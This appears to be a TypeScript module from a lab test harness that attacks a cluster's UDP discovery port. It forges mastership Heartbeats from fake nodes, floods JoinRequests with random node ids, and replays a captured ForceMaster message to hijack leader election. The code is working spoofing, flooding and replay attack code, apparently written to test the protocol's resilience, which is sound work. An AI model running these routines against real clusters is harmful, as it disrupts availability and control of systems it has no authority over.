// UDP attacks on the discovery port: a Heartbeat from an unknown node id with an absurd term, and a
// flood of JoinRequests with random node ids. The datagram is one JSON message (+ MAC with a key).
import { randomBytes } from 'node:crypto';
import { type Actor, type Outcome, type Target, encodeAs, envelope, nodeInfo, outcome, sleep, sniffHeartbeat, udpSend, udpSocket } from './wire.js';

/** Heartbeats from `ghost-*` claiming to be master at `term`, sent `count` times round-robin to every node. */
export async function termJump(t: Target, p: { actor: Actor; term: number; count: number }): Promise<Outcome> {
  const o = outcome();
  const seen = await sniffHeartbeat(t);
  if (!seen) o.notes.push('no Heartbeat sniffed: forging without the incarnation');
  const s = await udpSocket();
  try {
    for (let i = 0; i < p.count; i++) {
      const ghost = `ghost-${i % 8}`;
      const msg = {
        ...envelope(t, ghost, p.term),
        type: 'Heartbeat',
        master: nodeInfo(ghost, t.attackerIp, 9),
        commitIndex: seen?.commitIndex ?? 0,
        lastIndex: seen?.commitIndex ?? 0,
        incarnation: seen?.incarnation ?? 'x',
        clusterView: [],
      };
      const node = t.nodes[i % t.nodes.length]!;
      await udpSend(s, encodeAs(t, p.actor, msg), node.ip, t.ports.discovery);
      o.sent++;
      if (i % 50 === 49) await sleep(2);
    }
  } finally {
    s.close();
  }
  return o;
}

/** JoinRequests from random node ids (fresh nodes at random addresses) to every node. */
export async function joinFlood(t: Target, p: { actor: Actor; count: number; maxMs: number }): Promise<Outcome> {
  const o = outcome();
  const s = await udpSocket();
  const deadline = Date.now() + p.maxMs;
  try {
    for (let i = 0; i < p.count && Date.now() < deadline; i++) {
      const id = `j-${randomBytes(6).toString('hex')}`;
      const ip = `10.233.0.${100 + (i % 150)}`; // unused addresses of the lab's own range
      const msg = { ...envelope(t, id, 0), type: 'JoinRequest', node: nodeInfo(id, ip, 1024 + (i % 50_000)), lastIndex: 0, lastTerm: 0, fresh: true };
      const node = t.nodes[i % t.nodes.length]!;
      await udpSend(s, encodeAs(t, p.actor, msg), node.ip, t.ports.discovery);
      o.sent++;
      if (i % 100 === 99) await sleep(1);
    }
  } finally {
    s.close();
  }
  if (o.sent < p.count) o.notes.push(`time budget reached after ${o.sent} of ${p.count}`);
  return o;
}

/** Sends captured datagrams (hex) again to every node: the replay of a ForceMaster. */
export async function udpReplay(t: Target, p: { hex: string; times: number }): Promise<Outcome> {
  const o = outcome();
  const s = await udpSocket();
  try {
    for (let i = 0; i < p.times; i++) {
      for (const n of t.nodes) {
        await udpSend(s, Buffer.from(p.hex, 'hex'), n.ip, t.ports.discovery);
        o.sent++;
      }
      await sleep(20);
    }
  } finally {
    s.close();
  }
  return o;
}

/** Builds and sends (once, to every node) an authenticated ForceMaster, as an admin tool would: the "capture". */
export async function forceMasterCapture(t: Target, p: { fromId: string; targetId: string; term: number }): Promise<Outcome> {
  const o = outcome();
  const msg = { ...envelope(t, p.fromId, p.term), type: 'ForceMaster', targetNodeId: p.targetId, by: 'admin' };
  const bytes = encodeAs(t, 'member', msg);
  const s = await udpSocket();
  try {
    for (const n of t.nodes) {
      await udpSend(s, bytes, n.ip, t.ports.discovery);
      o.sent++;
    }
  } finally {
    s.close();
  }
  o.data = { hex: bytes.toString('hex') };
  return o;
}
